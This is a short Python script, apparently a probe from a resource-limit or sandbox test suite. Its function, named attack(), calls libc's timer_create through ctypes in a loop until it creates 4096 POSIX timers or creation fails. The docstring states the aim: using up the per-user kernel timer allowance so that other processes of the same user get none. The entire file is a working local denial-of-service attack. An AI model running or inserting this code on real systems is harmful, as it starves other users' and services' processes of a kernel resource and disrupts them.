"""Makes timers without end: the kernel counts them for the user, and others of the same user get none then."""

import ctypes
import struct

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.timer_create.restype = ctypes.c_int
MOST, MONOTONIC, BY_SIGNAL, ALARM = 4096, 1, 0, 14


def attack():
    made = 0
    order = struct.pack("=QiI", 0, ALARM, BY_SIGNAL).ljust(64, b"\0")
    while made < MOST and LIBC.timer_create(MONOTONIC, order, ctypes.create_string_buffer(8)) == 0:
        made += 1
    return f"{made} timers" if made == MOST else ""
